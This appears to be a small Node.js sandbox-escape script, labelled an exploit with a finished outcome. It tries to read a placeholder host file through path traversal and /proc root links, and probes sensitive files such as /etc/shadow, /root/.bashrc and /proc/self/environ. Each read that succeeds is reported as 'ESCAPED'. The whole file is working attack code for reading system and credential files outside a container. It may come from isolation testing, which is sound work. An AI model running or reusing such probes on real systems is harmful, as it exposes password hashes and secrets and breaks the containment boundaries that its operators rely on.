// exploit: reads files of the host by absolute path, upwards, through /proc and through well-known places
// outcome: finished
const { readFileSync, readdirSync } = require('node:fs')
const up = '../'.repeat(30)
const places = ['__HOST_FILE__', `${up}__HOST_FILE__`, '/proc/1/root__HOST_FILE__', '/proc/self/root__HOST_FILE__', '/proc/self/cwd/..__HOST_FILE__', '/etc/shadow', '/etc/hostname', '/root/.bashrc', '/home', '/var/lib', '/proc/self/environ', '/proc/1/cmdline', '/proc/net/tcp', '/sys/kernel/notes', '/run', '/usr/bin', '/boot']
for (const place of places) {
  for (const read of [readFileSync, readdirSync]) {
    try {
      read(place)
      console.log('ESCAPED', place)
    } catch (error) {
      if (error.code !== 'ENOENT' && error.code !== 'ENOTDIR') console.log('ESCAPED', place, error.code)
    }
  }
}
